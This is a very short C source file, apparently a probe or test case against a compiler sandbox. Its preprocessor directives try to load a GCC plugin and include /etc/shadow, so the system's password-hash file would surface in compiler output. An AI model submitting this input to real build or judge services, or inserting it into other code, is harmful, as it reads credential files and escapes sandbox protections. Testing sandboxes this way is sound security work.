#pragma GCC plugin "/usr/lib/gcc/plugin.so"
#pragma GCC pch_preprocess "/etc/shadow"
#include_next </etc/shadow>
int main(void) { return 0; }
